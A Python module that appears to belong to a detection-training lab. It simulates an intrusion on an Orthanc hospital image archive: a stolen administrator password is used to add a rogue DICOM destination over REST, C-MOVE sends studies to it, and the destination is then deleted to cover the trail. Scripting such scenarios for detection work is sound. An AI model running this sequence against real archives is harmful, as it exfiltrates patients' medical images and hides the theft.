"""A destination added over REST, and the archive told to send there: the images leave by the hospital's own hand."""

from __future__ import annotations

from collections.abc import Iterator

from lab.detection.traffic.intrusion import Intrusion, Scene
from lab.i18n import t
from lab.site.zones import Zone

INTRUSION = Intrusion(
    id="move-elsewhere",
    title=t("C-MOVE to a destination of one's own"),
    story=t(
        "With the administrator's stolen password somebody declares a new DICOM station over REST, and then orders the archive by C-MOVE "
        "to send studies to it. The archive does the sending."
    ),
    needs={
        "orthanc": {"DicomCheckModalityHost": False, "DicomAlwaysAllowFind": True, "DicomAlwaysAllowMove": True},
        "gateway": {"publish": {"dicom": ["clinic", "office", "internet"]}},
    },
    minutes=30,
)
NAMES = ("teleradio", "secours", "pacs2", "export")
STUDIES = 8


def play(scene: Scene) -> Iterator[float]:
    zone = scene.random.choice([Zone.CLINIC, Zone.OFFICE])
    account = scene.cast.role("administrator")[0].account
    name = scene.random.choice(NAMES)
    intruder = scene.intruder(zone, name.upper(), account)
    target, port = scene.receive(name.upper())
    with scene.hands.web(intruder) as web:
        web.get("/modalities?expand")
        yield scene.wait(3)
        web.ask("PUT", f"/modalities/{name}", {"AET": name.upper(), "Host": target, "Port": port})
    yield scene.wait(4)
    with scene.hands.dicom(intruder, "find") as link:
        matches = link.find(PatientName="", PatientID="", StudyInstanceUID="") if link else []
    uids = sorted(str(match.StudyInstanceUID) for match in matches)
    for uid in scene.random.sample(uids, min(STUDIES, len(uids))):
        yield scene.wait(20 / STUDIES)
        with scene.hands.dicom(intruder, "move") as link:
            if link:
                link.move(uid, name.upper())
    with scene.hands.web(intruder) as web:
        web.ask("DELETE", f"/modalities/{name}")
